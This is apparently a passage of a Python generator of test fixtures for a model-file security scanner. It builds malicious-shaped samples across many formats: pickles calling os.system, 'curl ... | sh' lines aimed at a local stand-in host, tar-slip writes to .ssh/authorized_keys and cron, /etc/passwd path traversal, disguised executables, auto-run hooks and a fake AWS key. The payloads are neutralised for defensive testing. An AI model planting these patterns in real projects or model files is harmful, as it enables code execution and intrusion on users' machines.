        ("openvino-custom", "m.xml", "<?xml version='1.0'?><net name='m' version='11'><layers><layer id='0' name='x' type='Evil' version='custom_extension'/></layers><library path='/tmp/evil.so'/></net>"), ("requirements-url", "requirements.txt", "--extra-index-url http://127.0.0.1:9/simple\nevil-package\n"), ("requirements-git", "requirements.txt", "git+http://127.0.0.1:9/evil.git\n-e .\n"), ("conda-pip", "conda.yaml", "channels: [http://127.0.0.1:9/c]\ndependencies:\n- pip:\n  - http://127.0.0.1:9/evil.whl\n"), ("dockerfile", "Dockerfile", f"FROM x\nRUN curl {URL} | sh\n"), ("makefile", "Makefile", f"all:\n\tcurl {URL} | sh\n"), ("gitattributes-filter", ".gitconfig", "[core]\n\tfsmonitor = true\n"), ("rdata-text", "m.R", "system('true')\n"),
    ]:  # fmt: skip
        yield name, file, text.encode()


def gguf(pairs: dict[str, str], tensors: int = 0, tail: bytes = b"", count: int | None = None) -> bytes:
    out = b"GGUF" + struct.pack("<IQQ", 3, tensors, len(pairs) if count is None else count)
    for key, value in pairs.items():
        out += struct.pack("<Q", len(key)) + key.encode() + struct.pack("<IQ", 8, len(value.encode())) + value.encode()
    return out + tail


def safe(header: object, data: bytes = b"", size: int | None = None) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if size is None else size) + raw + data


def pb(number: int, value: bytes | int | str) -> bytes:
    """Return one protobuf field."""
    def varint(n: int) -> bytes:
        return bytes([n]) if n < 128 else bytes([n & 127 | 128]) + varint(n >> 7)

    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(raw)) + raw


def onnx(node: bytes, extra: bytes = b"", domain: str = "") -> bytes:
    tensor = pb(1, pb(1, pb(1, 1) + pb(2, pb(1, pb(1, 1)))))
    graph = pb(1, node) + pb(2, "g") + extra + pb(11, pb(1, "x") + pb(2, tensor)) + pb(12, pb(1, "y") + pb(2, tensor))
    return pb(1, 8) + pb(7, graph) + pb(8, pb(1, "") + pb(2, 17)) + (pb(8, pb(1, domain) + pb(2, 1)) if domain else b"")


def binaries() -> Iterator[tuple[str, str, bytes]]:
    t = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    elf, pe = b"\x7fELF\x02\x01\x01" + bytes(57), b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(64)
    for name, data in {"overlap": safe({"a": t, "b": t}, bytes(8)), "hole": safe({"a": t | {"data_offsets": [8, 16]}}, bytes(16)), "beyond": safe({"a": t}, bytes(4)), "trailing-elf": safe({"a": t}, bytes(8) + elf), "huge-header": safe(b"{}", b"", 2**62), "duplicate": safe(b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', bytes(8)), "negative": safe({"a": t | {"data_offsets": [-8, 0]}}), "shape-lie": safe({"a": t | {"shape": [200]}}, bytes(8)), "shape-wrap": safe({"a": t | {"shape": [2**62, 8]}}, bytes(8)), "dtype": safe({"a": t | {"dtype": "PY"}}, bytes(8)), "not-json": safe(pkl(call("os", "system")), bytes(8)), "metadata-object": safe({"__metadata__": {"a": {"b": 1}}, "a": t}, bytes(8))}.items():  # fmt: skip
        yield f"safetensors-{name}", "model.safetensors", data
    for name, data in {"count-overflow": gguf({}, count=2**63), "string-overflow": b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, 2**64 - 8) + b"x" * 32, "tail-elf": gguf({"general.architecture": "llama"}, tail=bytes(64) + elf), "tensor-beyond": gguf({}, 1, struct.pack("<Q", 1) + b"w" + struct.pack("<IQIQ", 1, 2**60, 0, 0)), "dims": gguf({}, 1, struct.pack("<Q", 1) + b"w" + struct.pack("<I", 2**31) + bytes(64)), "array-nest": b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1) + b"k" + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 5000, "version": b"GGUF" + struct.pack("<IQQ", 99, 0, 0)}.items():  # fmt: skip
        yield f"gguf-{name}", "m.gguf", data
    ident = pb(1, "x") + pb(2, "y") + pb(4, "Identity")
    for at, where in enumerate(["../../../etc/passwd", "/etc/passwd", "C:\\x", "..\\..\\x", "sub/../../x", "file:///etc/passwd"]):
        weights = pb(1, 4) + pb(2, 1) + pb(8, "w") + pb(13, pb(1, "location") + pb(2, where)) + pb(14, 1)
        yield f"onnx-external-{at}", "m.onnx", onnx(ident, pb(5, weights))
    for domain, op in [("ai.onnx.contrib", "PyOp"), ("com.evil", "Run"), ("ai.onnx.contrib", "PyCustomOpDef"), ("com.microsoft", "EPContext")]:
        yield f"onnx-{domain}-{op}", "m.onnx", onnx(pb(1, "x") + pb(2, "y") + pb(4, op) + pb(7, domain), domain=domain)
    yield "onnx-python-op", "m.onnx", onnx(pb(1, "x") + pb(2, "y") + pb(4, "PythonOp") + pb(7, "org.pytorch.aten"), domain="org.pytorch.aten")
    yield "onnx-trailing", "m.onnx", onnx(ident) + elf
    yield "onnx-trailing-pickle", "m.onnx", onnx(ident) + pkl(call("os", "system"))
    for op in ["ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "MatchingFiles", "LoadLibrary", "PrintV2", "DecodeRaw", "ShellExecute", "Save", "MergeV2Checkpoints", "RestoreV2"]:
        graph = pb(1, pb(1, "n") + pb(2, op))
        yield f"savedmodel-{op}", "saved_model.pb", pb(1, 1) + pb(2, pb(1, pb(4, "serve")) + pb(2, graph))
    yield "graphdef-pyfunc", "frozen_graph.pb", pb(1, pb(1, "n") + pb(2, "PyFunc")) + pb(4, pb(1, 1))
    yield "metagraph", "model.ckpt.meta", pb(1, pb(4, "t")) + pb(2, pb(1, pb(1, "n") + pb(2, "WriteFile")))
    yield "tflite-custom", "m.tflite", b"\x1c\0\0\0TFL3" + bytes(32) + b"FlexPyFunc\0" + bytes(16)
    yield "coreml-custom", "m.mlmodel", pb(1, 4) + pb(500, pb(1, pb(1, "x") + pb(500, pb(10, "EvilLayer"))))
    yield "coreml-python", "m.mlmodel", pb(1, 4) + pb(555, pb(1, "Evil"))
    yield "elf", "libmodel.so", elf
    yield "elf-as-bin", "pytorch_model.bin", elf
    yield "pe", "setup.exe", pe
    yield "pe-as-onnx", "model.onnx", pe
    yield "macho", "lib.dylib", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(64)
    yield "pyc", "m.cpython-311.pyc", b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile("0", "x", "exec"))
    yield "pyc-as-dat", "model.dat", b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile("0", "x", "exec"))
    yield "jar", "h2o.jar", zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: E\n", "E.class": b"\xca\xfe\xba\xbe\0\0\0\x37" + bytes(32)})
    yield "java-serial", "model.ser", b"\xac\xed\0\x05sr\0\x11java.util.HashMap" + bytes(24)
    yield "wasm", "m.wasm", b"\0asm\x01\0\0\0"
    yield "wasm-as-model", "model.bin", b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0"
    yield "llamafile", "m.llamafile", b"MZqFpD='\n\0" + bytes(50) + b"'\n#!/bin/sh\ntrue\n" + gguf({"general.architecture": "llama"})
    yield "rds-promise", "m.rds", gzip.compress(b"X\n" + struct.pack(">III", 3, 0x40300, 0x30500) + struct.pack(">I", 5) + bytes(32))
    yield "rda", "m.RData", b"RDX3\nX\n" + struct.pack(">II", 3, 0x40300) + bytes(16)
    yield "flax-msgpack-ext", "flax_model.msgpack", b"\x81\xa1w\xc7\x08\x63" + pkl(call("os", "system"))[:8]
    yield "flax-msgpack-huge", "flax_model.msgpack", b"\xdf\xff\xff\xff\xff\xa1w"
    yield "pdmodel", "inference.pdmodel", pb(1, pb(1, 0) + pb(4, pb(3, "py_func")))
    yield "lnk", "README.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(64)
    yield "docm", "card.docm", zipped({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})
    yield "pdf-js", "paper.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF"
    yield "png-tail-zip", "figure.png", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0) + struct.pack(">I", zlib.crc32(b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))) + b"\0\0\0\0IEND\xaeB`\x82" + zipped({"a.py": b"import os"})
    yield "gif-js", "a.gif", b"GIF89a/*" + bytes(4) + b"*/=1;fetch('http://127.0.0.1:9')//;"
    yield "mar", "model.mar", zipped({"MAR-INF/MANIFEST.json": b'{"model": {"handler": "h.py", "modelName": "m"}}', "h.py": b"import os\nos.system('true')\n"})
    yield "nemo", "m.nemo", tarred({"model_config.yaml": b"_target_: subprocess.Popen\nargs: [true]\n", "model_weights.ckpt": torch_zip(pickle.dumps({}, 2))}, mode="w:gz")
    yield "nemo-pickle", "m2.nemo", tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": torch_zip(pkl(call("os", "system"), 2))})
    for name, link in {"symlink": ("w", "/etc/passwd", tarfile.SYMTYPE), "hardlink": ("w", "../../x", tarfile.LNKTYPE), "device": ("w", "", tarfile.CHRTYPE), "fifo": ("w", "", tarfile.FIFOTYPE)}.items():
        yield f"tar-{name}", "m.tar", tarred({"a.json": b"{}"}, (link,))
    yield "tar-slip", "m.tar", tarred({"../../.ssh/authorized_keys": b"ssh-ed25519 AAAA\n"})
    yield "tar-absolute", "m.tar.gz", tarred({"/etc/cron.d/x": b"* * * * * root true\n"}, mode="w:gz")
    yield "zip-in-zip", "m.zip", zipped({"a.zip": zipped({"b.zip": zipped({"c.pkl": pkl(call("os", "system"))})})})
    yield "zip-bomb", "m.zip", zipped({"a.csv": bytes(1 << 26)}, zipfile.ZIP_DEFLATED)
    good = torch_zip(pkl(call("os", "system"), 2))
    yield "zip-encrypted-flag", "m.pt", good.replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\x01\0", 1)
    yield "zip-crc", "m.pt", good[:14] + b"\0\0\0\0" + good[18:]
    yield "zip-local-name", "m.pt", good.replace(b"archive/data.pkl", b"archive/data.txt", 1)
    yield "zip-prefix", "m.pt", b"harmless text\n" * 10 + good
    yield "pickle-then-zip", "m.bin", pkl(call("os", "system"), 2) + torch_zip(pickle.dumps({}, 2))
    yield "gzip-two", "m.json.gz", gzip.compress(b"{}") + gzip.compress(pkl(call("os", "system")))
    yield "7z", "m.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(24) + b"x" * 16
    yield "7z-torch", "m.pt", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(40)
    yield "rar", "m.rar", b"Rar!\x1a\x07\x01\0" + bytes(32)
    trees = {"learner": {"gradient_booster": {"name": "gbtree", "model": {"trees": [{"left_children": [0], "right_children": [0], "split_indices": [2**31]}]}}}, "version": [2, 0, 0]}
    yield "xgboost-cycle", "m.json", json.dumps(trees).encode()
    yield "xgboost-ubj-tail", "m.ubj", b"{L\0\0\0\0\0\0\0\x07versionZ}" + pkl(call("os", "system"))
    yield "lightgbm-tail", "m.txt", b"tree\nversion=v4\nnum_class=1\n\nend of trees\n\n" + pkl(call("os", "system"))

    def skops(node: dict[str, object], **more: bytes) -> bytes:
        return zipped({"schema.json": json.dumps(node | {"protocol": 2, "_skops_version": "0.11.0"}).encode()} | more)

    empty = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [], "__id__": 2}
    for module, name, loader in [("os", "system", "FunctionNode"), ("builtins", "eval", "TypeNode"), ("operator", "methodcaller", "OperatorFuncNode"), ("operator", "attrgetter", "OperatorFuncNode"), ("builtins", "getattr", "MethodNode"), ("functools", "partial", "PartialNode"), ("subprocess", "Popen", "ObjectNode"), ("evil", "Model", "ObjectNode"), ("pickle", "loads", "ReduceNode"), ("builtins", "int", "UnknownNode")]:
        content: object = {"module_path": module, "function": name} if loader == "FunctionNode" else {"func": "system", "obj": {"__class__": name, "__module__": module, "__loader__": "TypeNode", "__id__": 3}} if loader == "MethodNode" else empty
        yield f"skops-{loader}-{name}", "m.skops", skops({"__class__": name, "__module__": module, "__loader__": loader, "content": content, "attrs": empty, "constructor": empty, "__id__": 1})
    yield "skops-pickle-member", "m.skops", skops({"__class__": "int", "__module__": "builtins", "__loader__": "JsonNode", "content": "1", "is_json": True, "__id__": 1}, **{"1.npy": npy(pkl(call("os", "system")))})


def folders() -> Iterator[tuple[str, dict[str, bytes]]]:
    j = lambda **kw: json.dumps(kw).encode()  # noqa: E731
    code = b"import os\nos.system('true')\n"
    base = {"config.json": j(model_type="bert", architectures=["BertModel"]), "model.safetensors": safe({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8))}
    yield "auto-map", base | {"config.json": j(model_type="x", auto_map={"AutoModel": "modeling_x.X"}), "modeling_x.py": code}
    yield "auto-map-remote", base | {"config.json": j(model_type="x", auto_map={"AutoModel": "other/repo--modeling_x.X"})}
    yield "auto-map-nested", base | {"config.json": j(model_type="llava", text_config={"auto_map": {"AutoConfig": "c.C"}})}
    yield "tokenizer-auto-map", base | {"tokenizer_config.json": j(auto_map={"AutoTokenizer": ["tok.T", None]}), "tok.py": code}
    yield "processor-auto-map", base | {"preprocessor_config.json": j(auto_map={"AutoProcessor": "p.P"}), "p.py": code}
    yield "custom-pipelines", base | {"config.json": j(model_type="bert", custom_pipelines={"x": {"impl": "pipe.P", "pt": ["AutoModel"]}}), "pipe.py": code}
    yield "custom-generate", base | {"custom_generate/generate.py": code}
    yield "trust-remote-code", base | {"config.json": j(model_type="bert", trust_remote_code=True)}
    yield "pickle-beside-safetensors", base | {"pytorch_model.bin": torch_zip(pkl(call("os", "system"), 2))}
    yield "training-args", base | {"training_args.bin": torch_zip(pkl(call("builtins", "exec", "0"), 2))}
    yield "optimizer", base | {"optimizer.pt": torch_zip(pkl(call("os", "system"), 2))}
    yield "rng-state", base | {"rng_state.pth": pkl(call("os", "system"))}
    yield "index-slip", base | {"model.safetensors.index.json": j(metadata={}, weight_map={"a": "../../../etc/passwd"})}
    yield "index-bin", base | {"pytorch_model.bin.index.json": j(metadata={}, weight_map={"a": "/tmp/evil.bin"})}
    yield "sentence-transformers", base | {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "evil_module.Evil"}]).encode(), "evil_module.py": code}
    yield "sentence-transformers-os", base | {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]).encode()}
    yield "adapter-bin", {"adapter_config.json": j(peft_type="LORA", base_model_name_or_path="x"), "adapter_model.bin": torch_zip(pkl(call("os", "system"), 2))}
    yield "adapter-auto-mapping", {"adapter_config.json": j(peft_type="LORA", auto_mapping={"base_model_class": "X", "parent_library": "evil_lib"}), "adapter_model.safetensors": base["model.safetensors"], "evil_lib.py": code}
    yield "diffusers-custom", {"model_index.json": json.dumps({"_class_name": ["pipeline", "Evil"], "unet": ["my_unet", "Unet"]}).encode(), "pipeline.py": code, "unet/my_unet.py": code}
    yield "diffusers-ckpt", {"model_index.json": j(_class_name="StableDiffusionPipeline"), "unet/diffusion_pytorch_model.bin": torch_zip(pkl(call("os", "system"), 2))}
    yield "mlflow-loader", {"MLmodel": b"flavors:\n  python_function:\n    loader_module: evil\n    code: code\n    data: data\n", "code/evil.py": code, "data/x.csv": b"a\n1\n"}
    yield "mlflow-pickle", {"MLmodel": b"flavors:\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n", "model.pkl": pkl(call("os", "system"))}
    yield "mlflow-model-code", {"MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py\n", "agent.py": code}
    yield "mlflow-slip", {"MLmodel": b"artifact_path: model\nflavors:\n  sklearn:\n    pickled_model: ../../../../tmp/evil.pkl\n"}
    yield "git-hook", base | {".git/hooks/post-checkout": b"#!/bin/sh\ntrue\n", ".git/config": b"[core]\n"}
    yield "vscode-task", base | {".vscode/tasks.json": j(version="2.0.0", tasks=[{"label": "x", "type": "shell", "command": "true", "runOptions": {"runOn": "folderOpen"}}])}
    yield "github-workflow", base | {".github/workflows/x.yml": b"on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n    - run: curl http://127.0.0.1:9 | sh\n"}
    yield "spacy", {"config.cfg": b"[nlp]\nlang = en\n[components.x]\nfactory = evil\n", "meta.json": j(lang="en"), "tokenizer": pkl(call("os", "system"))}
    yield "savedmodel", {"saved_model.pb": pb(1, 1) + pb(2, pb(2, pb(1, pb(1, "n") + pb(2, "WriteFile")))), "variables/variables.index": b"", "keras_metadata.pb": b"\n\x04evil"}
    yield "triton-python", {"config.pbtxt": b'name: "m"\nbackend: "python"\n', "1/model.py": code}
    yield "ollama", {"Modelfile": b"FROM ./m.gguf\nTEMPLATE x\n", "m.gguf": gguf({"tokenizer.chat_template": "{{ lipsum.__globals__ }}"})}
    yield "aws-key", base | {"config.ini": b"[default]\naws_access_key_id=AKIAQ3EGRTZ7XK2JPL5M\naws_secret_access_key=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\n"}
    yield "hidden-pyc", base | {"__pycache__/m.cpython-311.pyc": b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile("0", "x", "exec"))}
    yield "numpy-shadow", base | {"numpy/__init__.py": code}
    yield "tar-in-folder", base | {"assets.tar.gz": tarred({"x.sh": b"#!/bin/sh\ntrue\n"}, mode="w:gz")}


def samples(rng: Rng) -> Iterator[Sample]:
    for category, part in (("3 gadget", gadgets), ("3 quiet pickle", quiet), ("3 numpy and h5", numpy_and_h5), ("3 keras", keras), ("3 text and code", texts), ("3 binary and archive", binaries)):
        for name, file, data in part():
            yield Sample(category, name, {file: data})
    for name, files in folders():
        yield Sample("3 folder", name, files)
